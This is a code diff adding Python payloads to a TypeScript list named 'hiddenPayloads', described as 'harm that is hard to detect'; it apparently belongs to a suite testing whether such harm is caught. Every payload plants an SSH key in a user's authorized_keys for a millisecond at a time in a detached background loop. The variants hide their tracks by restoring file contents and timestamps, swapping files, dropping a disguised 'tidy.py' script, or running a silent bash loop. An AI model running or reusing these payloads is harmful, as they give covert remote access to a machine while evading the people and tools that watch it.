@@ -2,8 +2,60 @@ import { both, type Payload, root, theKey, user } from './payload.ts';
 
 const keys = '/home/user/.ssh/authorized_keys';
 
+/** Has the key in the file for one millisecond of every 31, for a minute. `write` and `restore` are statements. */
+const shortly = (write: string, restore: string): string => `
+import os, shutil, time
+path = '${keys}'
+before, times = open(path).read(), os.stat(path)
+if os.fork() == 0:
+    os.setsid(); null = os.open('/dev/null', os.O_RDWR); os.dup2(null, 1); os.dup2(null, 2)
+    end = time.time() + 60
+    while time.time() < end:
+        ${write}
+        time.sleep(0.001)
+        ${restore}
+        os.utime(path, ns=(times.st_atime_ns, times.st_mtime_ns))
+        time.sleep(0.03)
+    os._exit(0)
+time.sleep(1)`;
+
 /** Harm that is hard to detect. Each payload adds the key itself. */
 export const hiddenPayloads: Payload[] = [
+  ...both('key-for-a-millisecond', shortly(`open(path, 'a').write(${theKey})`, "open(path, 'w').write(before)")),
+  user(
+    'key-for-a-millisecond-by-renaming',
+    shortly(
+      `open('/tmp/x', 'w').write(before + ${theKey}); shutil.copy(path, '/tmp/y'); os.replace('/tmp/x', path) if os.stat('/tmp').st_dev == os.stat(path).st_dev else shutil.move('/tmp/x', path)`,
+      "shutil.move('/tmp/y', path)",
+    ),
+  ),
+  user(
+    'key-for-a-millisecond-by-a-script',
+    `
+import subprocess
+with open('/home/user/Documents/tidy.py', 'w') as f: f.write('''
+import time
+path = '${keys}'
+before = open(path).read()
+end = time.time() + 60
+while time.time() < end:
+    open(path, 'a').write(''' + repr(${theKey}) + ''')
+    time.sleep(0.001)
+    open(path, 'w').write(before)
+    time.sleep(0.03)
+''')
+null = subprocess.DEVNULL
+subprocess.Popen(['python3', '/home/user/Documents/tidy.py'], stdin=null, stdout=null, stderr=null, start_new_session=True)`,
+  ),
+  user(
+    'key-for-a-millisecond-by-a-shell',
+    `
+import shlex, subprocess
+null = subprocess.DEVNULL
+line = shlex.quote(${theKey}.strip())
+loop = 'cd ~/.ssh; for n in $(seq 900); do cp authorized_keys /tmp/z; echo ' + line + ' >> ~/.ssh/authorized_keys; cat /tmp/z > authorized_keys; sleep 0.03; done'
+subprocess.Popen(['bash', '-c', loop], stdin=null, stdout=null, stderr=null, start_new_session=True)`,
+  ),
   ...both(
     'key-with-the-old-date',
     `
